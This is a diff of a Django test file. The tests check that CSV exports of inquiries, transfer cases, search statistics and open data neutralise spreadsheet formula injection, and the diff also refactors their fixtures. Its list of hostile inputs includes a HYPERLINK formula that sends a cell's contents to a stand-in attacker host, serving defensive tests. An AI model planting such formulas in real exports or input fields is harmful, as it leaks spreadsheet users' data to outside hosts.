@@ -7,16 +7,20 @@ import io
 from decimal import Decimal
 
 import pytest
-from django.contrib.auth import get_user_model
 from django.urls import reverse
 
-from branding.models import InvestorInquiry, ShowcasePage
+from branding.factories import make_inquiry, make_showcase
 from cms.csvsafe import safe_cell
-from practices.factories import PracticePageFactory
-from practices.models import PracticeIndexPage, PracticePage, TransferCase
-from regions.models import RegionKeyFigure
+from cms.factories import english_home, make_user
+from practices.factories import (
+    PracticeIndexPageFactory,
+    PracticePageFactory,
+    make_practice,
+)
+from practices.models import TransferCase
+from regions.factories import RegionKeyFigureFactory, make_region
 from search.models import QueryStatistic
-from tests.helpers import region, text
+from tests.helpers import text
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -35,6 +39,11 @@ def rows_of(response):
 
 def assert_inert(value, original):
     assert value == "'" + original, value
+
+
+def admin():
+    """A superuser of the test's own (every admin export is open to one)."""
+    return make_user("csv-admin", is_staff=True, is_superuser=True)
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -56,18 +65,19 @@ def test_non_text_values_are_unchanged(value):
 
 @pytest.mark.django_db
 def test_inquiry_export_neutralises_what_a_visitor_typed(client):
-    page = region("emilia-romagna")
-    InvestorInquiry.objects.create(
+    page = make_region("Formula Coast", "formula-coast")
+    make_showcase(page)
+    inquiry = make_inquiry(
+        page,
         name=HOSTILE[1],
         company=HOSTILE[0],
         email="ann@acme.example",
         country=HOSTILE[2],
         message="We look for a site.",
         consent=True,
-        region=page,
-        showcase=ShowcasePage.objects.child_of(page).first(),
     )
-    client.force_login(get_user_model().objects.get(username="admin"))
+    assert inquiry.showcase is not None
+    client.force_login(admin())
     url = reverse("wagtailsnippets_branding_investorinquiry:list")
     rows = rows_of(client.get(url, {"export": "csv"}))
     row = next(row for row in rows if row["Company"].endswith(HOSTILE[0]))
@@ -83,12 +93,10 @@ def test_inquiry_export_neutralises_what_a_visitor_typed(client):
 def test_transfer_case_export_neutralises_titles(client):
     case = TransferCase.objects.create(
         title=HOSTILE[3],
-        region=region("valencia"),
-        practice=PracticePage.objects.get(
-            slug="gavle-export-coaching", locale__language_code="en"
-        ),
+        region=make_region("Formula Bay", "formula-bay"),
+        practice=make_practice(title="Export coaching", slug="formula-coaching"),
     )
-    client.force_login(get_user_model().objects.get(username="admin"))
+    client.force_login(admin())
     url = reverse("wagtailsnippets_practices_transfercase:list")
     rows = rows_of(client.get(url, {"export": "csv"}))
     row = next(row for row in rows if row["Reference"] == case.reference)
@@ -100,7 +108,7 @@ def test_search_statistics_export_keeps_counts_as_numbers(client):
     QueryStatistic.objects.create(
         query_string=HOSTILE[4], language="en", hits=7, zero_result_hits=2
     )
-    client.force_login(get_user_model().objects.get(username="admin"))
+    client.force_login(admin())
     url = reverse("search_queries:index")
     rows = rows_of(client.get(url, {"export": "csv"}))
     row = next(row for row in rows if row["Query"].endswith(HOSTILE[4]))
@@ -110,14 +118,11 @@ def test_search_statistics_export_keeps_counts_as_numbers(client):
 
 @pytest.mark.django_db
 def test_open_data_csv_neutralises_text_and_keeps_negative_numbers(client):
-    index = PracticeIndexPage.objects.get(locale__language_code="en")
-    PracticePageFactory(parent=index, title=HOSTILE[0])
+    make_practice(title=HOSTILE[0])
     rows = rows_of(client.get("/en/opendata/practices.csv"))
     assert "'" + HOSTILE[0] in {row["title"] for row in rows}
 
-    figure = RegionKeyFigure.objects.filter(
-        page__locale__language_code="en", page__live=True
-    ).first()
+    figure = RegionKeyFigureFactory(page=make_region("Formula Plain", "formula-plain"))
     figure.label = HOSTILE[3]
     figure.value = Decimal("-3.5")
     figure.source = HOSTILE[5]
@@ -133,7 +138,7 @@ def test_open_data_csv_neutralises_text_and_keeps_negative_numbers(client):
 
 @pytest.mark.django_db
 def test_practice_library_download_neutralises_titles(client):
-    index = PracticeIndexPage.objects.get(locale__language_code="en")
+    index = PracticeIndexPageFactory(parent=english_home())
     PracticePageFactory(parent=index, title=HOSTILE[2])
     rows = rows_of(client.get(index.url + "export/csv/"))
     assert "'" + HOSTILE[2] in {row["title"] for row in rows}
